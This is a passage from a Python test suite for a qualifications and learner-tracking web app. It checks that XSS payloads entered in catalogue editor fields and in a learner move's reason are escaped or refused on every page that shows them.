    assert response.status_code < 500, f"{endpoint} as {visitor}: {response.status_code}"
    assert outcome(response) != "csrf-refused"
    assert not header_problems(response)
    problems = stored_data_problems(world.path, served(world.app))
    assert not problems, problems


def test_xss_payloads_in_a_qualification_and_a_move_reason_are_escaped_everywhere(
    fresh_app, tmp_path
):
    """Every payload in the catalogue editor's free text (title, awarding body, group and unit
    titles, a rule's words) and in the reason for moving a learner: shown inert on every page
    that shows them, or refused with the field's message."""
    app = fresh_app
    site = XssSite(app, app.test_cli_runner())
    admin = site.admin
    for i, p in enumerate(PAYLOADS):
        code = f"XQ{i}"
        one_line = " ".join(p.split()).replace(",", " ")  # a CSV cell of its own
        data = {
            **NEW_QUALIFICATION,
            "code": code,
            "title": f"{i} {p}"[:200],
            "awarding_body": f"{i} {p}"[:100],
            "groups": f"A, {i} {one_line}, yes\nB, Optional, no",
            "units": f'T1, K/{i}/1, "{i} {one_line}", 5, 3, A\nT2, K/{i}/2, Plan work, 4, 3, B',
            "rules-1-wording": f"{i} {p}"[:500],
            "action": "publish",
        }
        response = admin.post("/staff/content/new", data)
        site.check(f"qualification {i} sent", response)
        if response.status_code != 303:
            assert response.status_code == 400, (i, response.status_code)
            continue
        for where, page in (
            ("qualifications", admin.get("/staff/content")),
            ("editor", admin.get(f"/staff/content/q/{code}/edit")),
            ("units", admin.get(f"/staff/content/q/{code}")),
            ("public", admin.get(f"/q/{code}/")),
            ("unit", admin.get(f"/q/{code}/units/T1")),
            ("learners", admin.get("/staff/learners")),
            ("cohort", admin.get(f"/staff/cohort?qualification={code}")),
            ("qr", admin.get(f"/q/{code}/qr/units")),
        ):
            assert page.status_code == 200, (where, i)
            site.check(f"{where} of qualification {i}", page)
    # the reason for a move, in the audit trail (moved back and forth between two)
    with_db(app, lambda db: learners.create_learner(db, "Mo Mover"))
    mover = _learner_id(app, "Mo Mover")
    there = [c for c in (f"XQ{i}" for i in range(len(PAYLOADS))) if c in app.extensions["library"]]
    assert there, "at least one qualification with payloads was published"
    for i, p in enumerate(PAYLOADS):
        to = there[0] if i % 2 == 0 else "03455"
        with_db(
            app,
            lambda db, to=to, i=i, p=p: learners.move_qualification(
                db, mover, to, f"{i} {p}", "test"
            ),
        )
    reasons = [f"{i} {p}" for i, p in enumerate(PAYLOADS)][:3]
    for where, page, present in (
        ("learner audit", admin.get(f"/staff/learners/{mover}/audit"), reasons),
        ("audit", admin.get("/staff/audit"), reasons),
        ("gap report", admin.get(f"/staff/learners/{mover}"), []),
    ):
        assert page.status_code == 200, where
        site.check(where, page, present)
    assert not site.failures, "\n".join(site.failures[:60])
